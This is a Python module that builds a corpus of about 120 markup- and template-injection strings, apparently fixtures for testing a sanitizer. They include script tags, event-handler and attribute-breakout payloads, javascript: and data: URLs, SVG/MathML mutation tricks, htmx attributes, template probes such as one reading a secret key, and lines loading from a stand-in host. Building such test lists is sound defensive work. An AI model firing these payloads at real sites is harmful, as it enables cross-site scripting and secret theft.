"""Words that want to be markup: 120 of them, none with a line break, for that is a paragraph to a letter."""

_SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//e.example></SCRIPT>
<script/x>alert(1)</script/x>
<scr<script>ipt>alert(1)</script>
<script type=module>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</option></select><script>alert(1)
<!--<script>alert(1)</script>-->
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml:x <script>alert(1)</script>?>
<script>alert`1`
"""
_HANDLERS = (
    r"""
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)//
<img src=x	onerror	=	alert(1)>
<IMG """
    + '"""'
    + r"""><b onclick=alert(1)>x"
<body onload=alert(1)>
<html onmouseover=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)>
<audio src onloadstart=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<b onpointerenter=alert(1)>x</b>
<dialog open onbeforetoggle=alert(1)>
<x onclick=alert(1) tabindex=1>x
<a id=x onfocus=alert(1) href=#x>x</a>
<form><button formaction=javascript:alert(1)>
"""
)
_OUT_OF_ATTRIBUTES = r"""
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
' autofocus onfocus=alert(1) x='
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"/><svg onload=alert(1)>
` onmouseover=alert(1) `
" style="position:fixed" x="
" formaction="javascript:alert(1)
" srcdoc="<b>" x="
x" hidden x="
x' hidden x='
x hidden onclick=alert(1)
\" onclick=alert(1) \"
\' onclick=alert(1) \'
"></a></li></ul></div><b>x
"""
_ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
 javascript:alert(1)
javascript://%0aalert(1)
javascript&colon;alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PGI+eDwvYj4=
vbscript:msgbox(1)
<a href=javascript:alert(1)>x</a>
<a href="&#106;avascript:alert(1)">x</a>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<b onclick=alert(1)>">
<object data=javascript:alert(1)>
<embed src=//e.example>
<base href=//e.example>
<meta http-equiv=refresh content="0;url=//e">
<link rel=stylesheet href=//e.example>
<form action=//e.example><input name=x>
//e.example/x
"""
_DRAWINGS = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=//e.example /></svg>
<svg><animate onbegin=alert(1)>
<svg><set attributeName=href to=javascript:1>
<svg><a xlink:href=javascript:alert(1)>x</a>
<svg><use href=data:image/svg+xml,x#x>
<svg><foreignObject><b onclick=alert(1)>
<math><mtext><b onclick=alert(1)>x
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline>x
"""
_TAKEN_APART_TWICE = r"""
<svg></p><style><a id="</style><b onclick=1>">
<math><mi><table><mglyph><style><b onclick=1>
<noscript><p title="</noscript><b onclick=1>">
<p title="</p><b onclick=alert(1)>">x
<form><math><mtext></form><form><mglyph><b>
<table><b onclick=alert(1)>x
<template><b onclick=alert(1)></template>
<listing>&lt;b onclick=alert(1)&gt;
<xmp><b title="</xmp><b onclick=1>">
<plaintext><b>x
<select><b onclick=1><option>x
<a><a><a title=">"><b>
"""
_OURS = r"""
<b hx-get=//e.example hx-trigger=load>x
<b data-hx-get=/ hx-trigger=load>x
" hx-on:click="alert(1)
" hx-get="/x" hx-trigger="load
" data-confirm="x" data-x="
<b hx-vals="js:{x:alert(1)}">x
{{ 7*7 }}
{% include "x" %}
{{ settings.SECRET_KEY }}
${alert(1)}
<%= 7*7 %>
{{constructor.constructor('alert(1)')()}}
%(name)s %s {0.__class__}
"""
_WRITTEN_OTHERWISE = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;b onclick=alert(1)&#62;
&#x3c;b onclick=alert(1)&#x3e;
&lt;b onclick=alert(1)>
&quot; onmouseover=&quot;alert(1)
\u003cb onclick=alert(1)\u003e
%3Cb onclick=alert(1)%3E
＜b onclick=alert(1)＞
‹b onclick=alert(1)›
+ADw-b onclick=alert(1)+AD4-
<b style=x:expression(alert(1))>
<style>*{background:url(//e)}</style>
</body></html><b onclick=alert(1)>
"""
_ALL = (
    _SCRIPTS + _HANDLERS + _OUT_OF_ATTRIBUTES + _ADDRESSES + _DRAWINGS + _TAKEN_APART_TWICE + _OURS + _WRITTEN_OTHERWISE
)
CORPUS = tuple(line for line in _ALL.splitlines() if line)
